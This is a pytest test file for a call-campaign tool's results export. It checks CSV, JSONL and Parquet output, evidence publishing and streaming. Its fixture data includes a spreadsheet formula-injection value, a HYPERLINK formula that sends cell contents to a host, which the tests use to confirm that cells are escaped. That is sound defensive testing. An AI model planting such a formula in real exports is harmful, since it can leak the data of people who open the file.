"""``dialform results``: tables, rows and what is published, from real calls in the ledger."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from typing import TYPE_CHECKING, Any

import pyarrow.parquet as pq
import pytest
from calls_world import Calls
from hypothesis import given
from hypothesis import strategies as st
from launcher_world import ANN, BEN, PIN, World

from dialform.cli.rows import write_csv
from dialform.launcher.ledger import Ledger
from dialform.launcher.outcomes.results import of_campaign
from dialform.launcher.outcomes.table import cell_text
from dialform.launcher.records import Row
from dialform.registry import Tally
from dialform.registry.verify import verify

if TYPE_CHECKING:
    from pathlib import Path

    from dialform.sandbox import Sandbox

BUSY, LIMITED, MAILBOX = "+14155550110", "+14155550113", "+14155550114"
HOSTILE = '=HYPERLINK("http://127.0.0.1/"&A1)'
RESULTS = ("results", "-s", "dev")


@pytest.fixture
def called(tmp_path: Path, sandbox: Sandbox) -> World:
    """A campaign: one answered, a mailbox, one busy, one never rang, one skipped, one planned."""
    world = World(tmp_path, sandbox)
    with Calls(world) as calls:
        calls.open(
            Row(1, ANN, ANN, json.dumps({"name": "Zoë, the 1st", "pin": PIN})),
            Row(2, "p-7", BUSY, json.dumps({"name": HOSTILE})),
            Row(3, LIMITED, LIMITED, '{"amount":12.5,"name":"-5"}'),
            Row(4, ANN, ANN, '{"name":"Ann"}', state="skipped", reason="the same person as row 1"),
            Row(5, BEN, BEN, '{"name":"@SUM(1)"}'),
            Row(6, MAILBOX, MAILBOX, '{"name":"Mia"}'),
        )
        made = [
            calls.call(ANN),
            calls.call(BUSY, person="p-7"),
            calls.call(LIMITED),
            calls.call(MAILBOX),
        ]
        calls.end(*made)
    return world


def rows_of(world: World, *options: str) -> list[dict[str, str]]:
    out, _ = world.run(*RESULTS, *options, "--csv")
    return list(csv.DictReader(io.StringIO(out.decode(), newline="")))


def test_each_row_of_the_file_has_what_came_of_it(called: World) -> None:
    found = rows_of(called, "--campaign", "autumn")
    assert [one["dialform_row"] for one in found] == ["1", "2", "3", "4", "5", "6"]
    told = [(one["dialform_state"], one["dialform_result"]) for one in found]
    assert told == [
        ("done", "AGENT_HANGUP"),
        ("done", "BUSY"),
        ("done", "RATE_LIMITED"),
        ("skipped", ""),
        ("planned", ""),
        ("done", "VOICEMAIL_DETECTED_HANGUP"),
    ]
    assert [one["dialform_answered"] for one in found] == [
        "true",
        "false",
        "false",
        "",
        "",
        "false",
    ]
    assert found[0]["name"] == "Zoë, the 1st"
    assert (found[0]["to"], found[1]["to"], found[1]["person"]) == (ANN, BUSY, "p-7")
    assert found[0]["dialform_seconds"] == "30.0"
    assert found[3]["dialform_reason"] == "the same person as row 1"


def test_no_cell_is_a_formula_and_no_sensitive_input_is_told(called: World) -> None:
    found = rows_of(called, "--campaign", "autumn")
    assert found[1]["name"] == f"'{HOSTILE}"
    assert (found[2]["name"], found[4]["name"]) == ("-5", "'@SUM(1)")
    assert "pin" not in found[0]
    for form in ("--csv", "--jsonl"):
        assert PIN.encode() not in called.run(*RESULTS, "--campaign", "autumn", form)[0]


def test_all_forms_hold_the_same(called: World) -> None:
    table = rows_of(called, "--campaign", "autumn")
    lines = called.run(*RESULTS, "--campaign", "autumn", "--jsonl")[0].splitlines()
    told = [json.loads(line) for line in lines]
    assert {one["format"] for one in told} == {"dialform.result/1"}
    path = called.folder / "autumn.parquet"
    called.run(*RESULTS, "--campaign", "autumn", "--parquet", "-o", str(path))
    kept: list[dict[str, Any]] = pq.read_table(path).to_pylist()
    assert list(kept[0]) == list(table[0])
    for cell, line, row in zip(table, told, kept, strict=True):
        assert cell["dialform_dial_id"] == (line["dialId"] or "") == (row["dialform_dial_id"] or "")
        assert line["inputs"]["name"] == row["name"] == cell["name"].removeprefix("'")
        assert line["seconds"] == row["dialform_seconds"]
        assert line["row"] == row["dialform_row"] == int(cell["dialform_row"])
        assert line["answered"] is row["dialform_answered"]


def test_a_file_is_written_whole_or_not_at_all(called: World) -> None:
    path = called.folder / "out.csv"
    path.write_text("old")
    called.run(*RESULTS, "--campaign", "autum", "--csv", "-o", str(path), code=64)
    assert path.read_text() == "old"
    _, said = called.run(*RESULTS, "--csv", "-o", str(called.folder / "no" / "x.csv"), code=1)
    assert "can't be written" in said
    out, _ = called.run(*RESULTS, "--campaign", "autumn", "--csv", "-o", str(path))
    assert out == b""
    assert path.read_bytes() == called.run(*RESULTS, "--campaign", "autumn", "--csv")[0]
    assert sorted(one.name for one in called.folder.glob("*.csv")) == ["out.csv"]
    assert list(called.folder.glob(".dialform-results*")) == []


def test_single_dials_are_rows_too(called: World) -> None:
    called.sandbox.fail_next("dials", how="close", after="created")
    called.dial("--once", "visit-1", code=5)
    found = rows_of(called, "--since", "1h")
    assert len(found) == 5
    assert [one["dialform_state"] for one in found] == ["accepted"] * 4 + ["unknown"]
    assert (found[4]["name"], found[4]["dialform_row"]) == ("Ann", "")


def test_the_table_counts_each_version(called: World) -> None:
    called.release("reminder", timeoutMinutes=5)
    called.sandbox.fail_next("dials", status=400)
    called.dial(code=4)
    out, said = called.run(*RESULTS, "--json")
    told = json.loads(out)["versions"]
    assert [(one["version"], one["placed"], one["rejected"]) for one in told] == [
        (1, 3, 0),
        (2, 0, 1),
    ]
    first = {key: told[0][key] for key in ("answered", "completed", "failed", "seconds")}
    assert first == {"answered": 1, "completed": 2, "failed": 0, "seconds": 30}
    assert (told[0]["failureRate"], told[1]["failureRate"]) == (0.0, 1.0)
    assert said == ""
    text = called.run(*RESULTS)[0].decode()
    assert text.splitlines()[0].split()[:4] == ["preset", "version", "placed", "answered"]
    called.dial()
    _, said = called.run(*RESULTS)
    assert "1 calls have not ended" in said


def test_what_is_published_is_evidence_once(called: World) -> None:
    out, _ = called.run(*RESULTS, "--publish")
    assert out.decode() == (
        "reminder version 1 in dev: 2 completed, 0 failed or rejected (evidence 1)\n"
    )
    called.run(*RESULTS, "--publish")
    (one,) = called.registry.evidence("dev", "reminder", 1)
    assert one.tally == Tally(placed=3, answered=1, completed=2, seconds=30)
    assert (one.by, one.ledger) == ("anna", Ledger(called.ledger).id)
    called.sandbox.fail_next("dials", status=400)
    called.dial(code=4)
    told = json.loads(called.run(*RESULTS, "--publish", "--json")[0])
    assert [(one["seq"], one["tally"]["rejected"]) for one in told["evidence"]] == [(2, 1)]
    assert list(verify(called.registry)) == []


@pytest.mark.parametrize(
    "options",
    [
        ("--csv", "--jsonl"),
        ("--parquet",),
        ("-o", "x.csv"),
        ("--json", "--csv"),
        ("--campaign", "autumn", "--since", "1h"),
        ("--publish", "--since", "1h"),
        ("--publish", "--heard", "reminder@1"),
        ("--heard", "reminder@1", "--csv", "--json"),
        ("--heard", "reminder@one"),
        ("--since", "yesterday"),
    ],
)
def test_what_does_not_go_together_is_said(world: World, options: tuple[str, ...]) -> None:
    world.run(*RESULTS, *options, code=64)


@given(st.text() | st.integers() | st.floats() | st.none() | st.booleans())
def test_a_cell_never_begins_a_formula(value: Any) -> None:
    text = cell_text(value)
    plain = text.lstrip("+-").replace(".", "").isdecimal()
    assert plain or not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    if isinstance(value, str):
        assert text in (value, f"'{value}")


def test_many_rows_are_a_stream(world: World) -> None:
    """Twenty thousand rows need the memory of a page."""
    text = json.dumps({"name": "x" * 400})
    with Calls(world) as calls:
        calls.open(*(Row(at, f"p{at}", f"+1415{at:07}", text) for at in range(1, 20_001)))
        (campaign,) = calls.ledger.campaigns()
        with (world.folder / "many.csv").open("wb") as file:
            tracemalloc.start()
            write_csv(lambda: of_campaign(calls.ledger, campaign, set()), file)
            _, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
    assert peak < 6 * 1024 * 1024
    with (world.folder / "many.csv").open(newline="") as file_of_text:
        assert sum(1 for _ in csv.reader(file_of_text)) == 20_001


def test_who_heard_a_version_may_have_heard_it(called: World) -> None:
    """Of campaigns and single dials; not who never rang, was refused, or heard another one."""
    called.dial("--once", "single")
    called.sandbox.fail_next("dials", how="close", after="created")
    called.dial("--once", "lost", code=5)
    called.sandbox.fail_next("dials", status=400)
    called.dial("--once", "refused", code=4)
    called.release("reminder", timeoutMinutes=5)
    called.dial("--once", "another")
    found = rows_of(called, "--heard", "reminder@1")
    assert [(one["person"], one["dialform_campaign"], one["dialform_state"]) for one in found] == [
        (ANN, "autumn", "accepted"),
        ("p-7", "autumn", "accepted"),
        (MAILBOX, "autumn", "accepted"),
        (ANN, "", "accepted"),
        (ANN, "", "unknown"),
    ]
    ledger = Ledger(called.ledger)
    first = ledger.find(version=1, limit=None)[-1]
    for digest in (first.preset_digest, first.bound_digest):
        assert rows_of(called, "--heard", f"reminder@{digest}") == found
    assert len(rows_of(called, "--heard", "reminder")) == 6
    assert len(rows_of(called, "--heard", "reminder@1", "--campaign", "autumn")) == 3
    assert rows_of(called, "--heard", "reminder@1", "--since", "1h") == found
    told = json.loads(called.run(*RESULTS, "--heard", "reminder@1", "--json")[0])
    assert (told["format"], told["preset"], told["version"]) == ("dialform.heard/1", "reminder", 1)
    assert [one["campaign"] for one in told["dials"]] == ["autumn"] * 3 + [None] * 2
    out, said = called.run(*RESULTS, "--heard", "reminder@1")
    lines = out.decode().splitlines()
    assert lines[0].split() == ["person", "to", "when", "campaign", "outcome", "dial"]
    assert len(lines) == 6
    assert f"p-7       {BUSY}" in lines[2]
    assert "autumn" in lines[2]
    assert "busy BUSY" in lines[2]
    assert "5 dials to 3 people with reminder@1; of 1 it is unknown whether a phone rang" in said


def test_that_nobody_heard_it_is_said_where_it_can_be_known(world: World) -> None:
    world.release("visit")
    _, said = world.run(*RESULTS, "--heard", "reminder@1", code=1)
    assert "there is no ledger at" in said
    assert not world.ledger.exists()
    world.dial()
    out, said = world.run(*RESULTS, "--heard", "reminder@2")
    assert out == b""
    assert f"nobody, as far as the ledger {world.ledger} knows; it has dials of reminder@1" in said
    assert "nobody" in world.run(*RESULTS, "--heard", "visit@1")[1]
    _, said = world.run(*RESULTS, "--heard", "remindr@1", code=64)
    assert "remindr was never released in dev" in said
    assert "did you mean 'reminder'" in said
